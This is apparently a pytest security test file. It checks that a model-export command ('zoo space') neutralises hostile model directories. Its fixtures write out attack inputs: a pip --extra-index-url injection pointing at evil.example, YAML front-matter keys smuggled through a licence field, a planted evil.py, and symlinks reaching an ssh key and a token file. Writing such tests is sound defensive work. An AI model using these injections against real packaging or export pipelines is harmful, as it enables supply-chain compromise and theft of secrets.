"""``zoo space`` on a hostile model directory: a saved model is data, and what it says
reaches a Space's requirements.txt, README front matter or files only as validated data.

Three attacks, each on the real command line, each with a canary that must not travel:
a pip option smuggled in ``plugin_distribution``, YAML keys smuggled in ``license``, and
symbolic links leading out of the model directory.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from packaging.requirements import Requirement

EVIL_INDEX = "https://evil.example/simple"
CANARY = "canary-7f3c1e: a secret outside the model directory"


def _zoo(*args, timeout=240):
    env = {k: v for k, v in os.environ.items() if not k.startswith("ZOO_PLUGIN")}
    return subprocess.run([sys.executable, "-m", "zoo", *args], capture_output=True, text=True,
                          timeout=timeout, env={**env, "OMP_NUM_THREADS": "1"})


def _texts(folder: Path) -> str:
    """Every byte of every file in ``folder``, as text (links are read through)."""
    return "".join(p.read_bytes().decode("utf-8", "replace") for p in sorted(folder.rglob("*"))
                   if p.is_file())


@pytest.fixture(scope="module")
def outside(tmp_path_factory) -> Path:
    """Files beside the model directory that nothing may copy (the canaries)."""
    d = tmp_path_factory.mktemp("outside")
    (d / "token.txt").write_text(CANARY)
    (d / "ssh").mkdir()
    (d / "ssh" / "id_ed25519").write_text(CANARY)
    return d


@pytest.fixture(scope="module")
def hostile(tmp_path_factory, outside) -> Path:
    """lenet5.digits saved, then edited as an attacker would edit a shared folder."""
    import zoo
    from zoo.loading import build

    d = tmp_path_factory.mktemp("hostile") / "model"
    spec, tag = zoo.spec("lenet5.digits")
    build.save(zoo.get("lenet5.digits"), d, spec=spec, tag=tag)
    cfg = json.loads((d / "config.json").read_text())
    cfg["plugin_distribution"] = f"zoo-plugin-x --extra-index-url {EVIL_INDEX}\n-i {EVIL_INDEX}"
    cfg["license"] = "mit\napp_file: evil.py\nhf_oauth: true\nsdk: docker"
    (d / "config.json").write_text(json.dumps(cfg))
    (d / "evil.py").write_text(f"open('pwned', 'w').write({CANARY!r})\n")
    os.symlink(outside / "ssh", d / "ssh")                 # links nothing names
    os.symlink(outside / "token.txt", d / "notes.txt")
    return d


@pytest.fixture(scope="module")
def exported(hostile, tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("export") / "space"
    r = _zoo("space", str(hostile), "--out", str(out))
    assert r.returncode == 0, r.stderr
    return out


def test_pip_option_injection_through_plugin_distribution_reaches_no_requirement(exported):
    lines = [ln.strip() for ln in (exported / "requirements.txt").read_text().splitlines()]
    for ln in (ln for ln in lines if ln and not ln.startswith("#")):
        assert not ln.startswith("-"), ln
        Requirement(ln)                 # every line is one PEP 508 requirement
    # what pip and Spaces read; model/config.json keeps the string as the data it is
    read = "".join((exported / f).read_text() for f in ("requirements.txt", "README.md",
                                                         "app.py"))
    assert "evil.example" not in read and "zoo-plugin-x" not in read


def test_pip_option_injection_through_plugin_distribution_is_not_echoed_in_advice(hostile,
                                                                                  tmp_path):
    # a model no installed plugin declares: refused, and the hostile name is not repeated
    d = tmp_path / "ghost"
    shutil.copytree(hostile, d, symlinks=True)
    cfg = json.loads((d / "config.json").read_text())
    cfg.update(name="ghostnet", plugin="ghost")
    (d / "config.json").write_text(json.dumps(cfg))
    r = _zoo("space", str(d), "--out", str(tmp_path / "out"))
    assert r.returncode == 2, r.stderr
    assert "plugin 'ghost', which is not installed here" in r.stderr
    assert "evil" not in r.stderr and "--extra-index-url" not in r.stderr
    assert len(r.stderr.strip().splitlines()) == 1
    assert not (tmp_path / "out").exists()


def test_yaml_key_injection_through_licence_stays_one_quoted_value(exported):
    from huggingface_hub import metadata_load

    meta = metadata_load(exported / "README.md")       # how the Hub reads the front matter
    assert meta["app_file"] == "app.py" and meta["sdk"] == "gradio"
    assert "hf_oauth" not in meta
    assert meta["license"] == "other"                  # not a licence identifier
    head = (exported / "README.md").read_text().split("\n---\n", 1)[0]
    assert "evil.py" not in head and "\nhf_oauth" not in head
    assert not (exported / "evil.py").exists()          # only the model's own files travel
    assert not (exported / "model" / "evil.py").exists()


def test_symlinks_out_of_the_model_directory_are_never_followed(exported):
    assert CANARY not in _texts(exported)
    assert not any(p.is_symlink() for p in exported.rglob("*"))
    assert {p.name for p in (exported / "model").iterdir()} == {"config.json",
                                                                "model.safetensors"}


def test_symlinks_out_of_the_model_directory_named_by_config_are_refused(hostile, outside,
                                                                          tmp_path):
    for attack in ("weights", "files"):
        d = tmp_path / attack
        shutil.copytree(hostile, d, symlinks=True)
        cfg = json.loads((d / "config.json").read_text())
        if attack == "weights":          # the weights file itself is a link out
            os.replace(d / "model.safetensors", tmp_path / f"{attack}.safetensors")
            os.symlink(outside / "token.txt", d / "model.safetensors")
        else:                            # a bundled folder reached through a link out
            cfg["files"] = {"vocab": "ssh"}
        (d / "config.json").write_text(json.dumps(cfg))
        out = tmp_path / f"out-{attack}"
        r = _zoo("space", str(d), "--out", str(out))
        assert r.returncode == 2, (attack, r.stderr)
        assert "leads outside the model directory" in r.stderr, (attack, r.stderr)
        assert not out.exists() and not list(tmp_path.glob(".*partial"))
